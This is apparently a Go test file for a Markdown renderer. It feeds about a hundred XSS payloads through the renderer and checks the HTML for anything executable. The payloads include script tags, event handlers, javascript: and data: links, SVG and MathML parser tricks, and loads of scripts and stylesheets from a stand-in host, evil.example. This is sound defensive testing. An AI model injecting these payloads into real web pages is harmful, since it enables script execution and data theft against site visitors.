package booklet

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"pgregory.net/rapid"
)

// payloads are ways to get something executable out of a Markdown renderer.
var payloads = [...]string{
	// script elements, whole, broken, nested, in other spellings
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`,
	"<script\n>alert(1)</script\n>",
	"<script\x0c>alert(1)</script>",
	`<script>alert(1)`,
	`</p><script>alert(1)</script><p>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`\<script>alert(1)\</script>`,
	`<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>`,
	`<script type="module">import("//evil.example")</script>`,
	"# <script>alert(1)</script>",
	"- <script>alert(1)</script>",
	"> <script>alert(1)</script>",
	"| a |\n|---|\n| <script>alert(1)</script> |",
	"**<script>alert(1)</script>**",
	"`<script>alert(1)</script>`",
	"```html\n<script>alert(1)</script>\n```",
	"~~~\n</code></pre><script>alert(1)</script>\n~~~",
	"    <script>alert(1)</script>",
	"``` \"><script>alert(1)</script>\nx\n```",
	// event handlers
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="alert(1)" `,
	`<p onclick=alert(1)>x</p>`,
	`<strong onmouseover="alert(1)">x</strong>`,
	`<h2 onfocus=alert(1) tabindex=1 autofocus>x</h2>`,
	`<td onpointerenter=alert(1)>x`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<video><source onerror=alert(1)></video>`,
	`<a href="tel:110" onclick="alert(1)">x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	// links
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	"[x](java\tscript:alert(1))",
	`[x](java&#10;script:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x]( javascript:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](file:///etc/passwd)`,
	`[x](//evil.example)`,
	`[x](/logout)`,
	`[x](#top)`,
	`[x](https://evil.example "t\" onclick=\"alert(1)")`,
	`[x](tel:1"onclick="alert(1))`,
	`[x](tel:javascript:alert(1))`,
	`[x](tel:12345;phone-context=javascript:alert(1))`,
	"[x](tel:12345%0aonclick=alert(1))",
	"[x][y]\n\n[y]: javascript:alert(1)",
	"[x][y]\n\n[y]: tel:12345 \"a\" onclick=alert(1)",
	`<javascript:alert(1)>`,
	`<https://evil.example/"onclick="alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="tel:12345" target=_blank ping=//evil.example>x</a>`,
	`<area href=javascript:alert(1)>`,
	// pictures and other things fetched
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/pixel.gif)`,
	`![x"onerror="alert(1)](x)`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`[![x](x "y")](javascript:alert(1))`,
	`<iframe src=javascript:alert(1)></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src=javascript:alert(1)>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example';</style>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="javascript:/">`,
	`<form action=javascript:alert(1)><button>x</button></form>`,
	// foreign content and parser confusion
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	`<<img src=x onerror=alert(1)>>`,
	`<img src=x onerror=alert(1)//`,
	`<a<script>alert(1)//</script>`,
	"<x \n\n onclick=alert(1)>x",
	`{{constructor.constructor('alert(1)')()}}<b>`,
	"[a\n<script>alert(1)</script>\n](tel:12345)",
	"*a<img src=x onerror=alert(1)>*",
}

func TestPayloadsRenderToNothingExecutable(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	around := []string{"%s", "前\n\n%s\n\n后", "- 一\n- %s\n", "| %s | b |\n|---|---|\n| x | y |", "**%s", "> %s", "%s\n\n[y]: javascript:alert(1)"}
	for _, p := range payloads {
		for _, a := range around {
			src := fmt.Sprintf(a, p)
			out, err := Render([]byte(src))
			if err != nil {
				t.Errorf("%q: %v", src, err)
				continue
			}
			if bad := forbidden(out); bad != "" {
				t.Errorf("%q\ngave %q\nwith %s", src, out, bad)
			}
		}
	}
}

func TestRandomMarkupIsHarmless(t *testing.T) {
	bits := append([]string{"<", ">", "\"", "'", "=", "/", "\n", "\n\n", " ", "\t", "[x](", ")", "![", "](", "](tel:", "|", "|---|\n", "- ", "> ", "# ", "*", "**", "_", "`", "```\n", "\\", "&", "&#", ";", "onerror=", "javascript:", "data:", "style", "svg", "a href=", "<!--", "-->", "字", "12345"}, payloads[:]...)
	rapid.Check(t, func(t *rapid.T) {
		src := strings.Join(rapid.SliceOfN(rapid.SampledFrom(bits), 1, 25).Draw(t, "bits"), "")
		out, err := Render([]byte(src))
		if err != nil {
			t.Fatal(err)
		}
		if bad := forbidden(out); bad != "" {
			t.Fatalf("%q\ngave %q\nwith %s", src, out, bad)
		}
		if strings.ContainsAny(Plain(src), "\t\r") {
			t.Fatalf("%q is read as %q", src, Plain(src))
		}
	})
}

// The judge itself: what it has to notice, and what it has to let pass.
func TestForbidden(t *testing.T) {
	for _, bad := range []string{`<script>1</script>`, `<p onclick=x>y</p>`, `<a href="javascript:1">x</a>`, `<a href="https://a.example">x</a>`, `<img src=x>`, `<!-- x -->`, `<svg></svg>`, `<table><tr><td style=x>y</td></tr></table>`} {
		if forbidden(bad) == "" {
			t.Errorf("passes: %s", bad)
		}
	}
	if why := forbidden(`<h2>甲</h2><p>乙 <strong>丙</strong> &lt;script&gt; <a href="tel:12345">丁</a></p>`); why != "" {
		t.Errorf("refused: %s", why)
	}
}

// forbidden parses out as a browser would and names the first thing that may
// not be there; "" = nothing.
func forbidden(out string) string {
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(out), body)
	if err != nil {
		return err.Error()
	}
	for _, n := range nodes {
		if bad := forbiddenIn(n); bad != "" {
			return bad
		}
	}
	return ""
}

func forbiddenIn(n *html.Node) string {
	const allowed = " h1 h2 h3 h4 h5 h6 p ul ol li strong em table thead tbody tr th td a "
	switch n.Type {
	case html.TextNode:
	case html.ElementNode:
		if !strings.Contains(allowed, " "+n.Data+" ") || n.Namespace != "" {
			return "element " + n.Data
		}
		for _, a := range n.Attr {
			if n.Data != "a" || a.Key != "href" || !regexp.MustCompile(`^tel:[+0-9-]+$`).MatchString(a.Val) {
				return fmt.Sprintf("attribute %s=%q on %s", a.Key, a.Val, n.Data)
			}
		}
	default:
		return fmt.Sprintf("node of type %d: %q", n.Type, n.Data)
	}
	for c := range n.ChildNodes() {
		if bad := forbiddenIn(c); bad != "" {
			return bad
		}
	}
	return ""
}
